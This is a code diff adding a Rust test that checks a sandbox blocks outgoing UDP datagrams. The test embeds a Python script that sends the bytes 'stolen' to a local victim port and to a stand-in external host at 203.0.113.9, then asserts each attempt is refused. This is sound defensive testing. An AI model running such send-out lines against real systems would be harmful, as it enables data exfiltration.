@@ -83,6 +83,34 @@ fn a_granted_host_is_reached_and_no_other_with_no_network_of_its_own() {
     });
 }
 
+#[test]
+fn a_datagram_that_goes_nowhere_has_an_entry_and_a_lookup_has_none() {
+    without_namespaces(|scene| {
+        let (server, victim) = (Server::start(), Victim::start());
+        let policy = server.policy(scene, "");
+        let python = format!(
+            "import socket\n\
+             for to in 2 * [('127.0.0.1', {0})] + [('203.0.113.9', 443)]:\n\
+             \x20   for send in ['sendto', 'connect']:\n\
+             \x20       s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+             \x20       try: s.sendto(b'stolen', to) if send == 'sendto' else s.connect(to)\n\
+             \x20       except OSError as error: print(error.errno)\n\
+             print(socket.getaddrinfo('api.test', 80) != [])\n",
+            victim.port()
+        );
+        scene.write("home/work/send.py", &python);
+        let ran = run(scene, &policy, &["/usr/bin/python3", "send.py"]);
+        let nowhere = format!("{}\n", libc::ENETUNREACH);
+        assert_eq!(ran.stdout, format!("{}True\n", nowhere.repeat(6)));
+        victim.heard_nothing();
+        let decided = network_decisions(scene).into_iter();
+        let refused: Vec<_> = decided.filter(|(_, allowed, _)| !allowed).collect();
+        assert_eq!(refused.len(), 2, "{refused:?}");
+        assert_eq!(scene.refusals(), ["gate/datagram"; 2]);
+        assert_verifies(scene);
+    });
+}
+
 /// Ports at which a process has sockets, as a table of the kernel's says it.
 fn ports_of(process: u32, table: &str) -> Vec<u16> {
     let held = fs::read_dir(format!("/proc/{process}/fd")).unwrap();
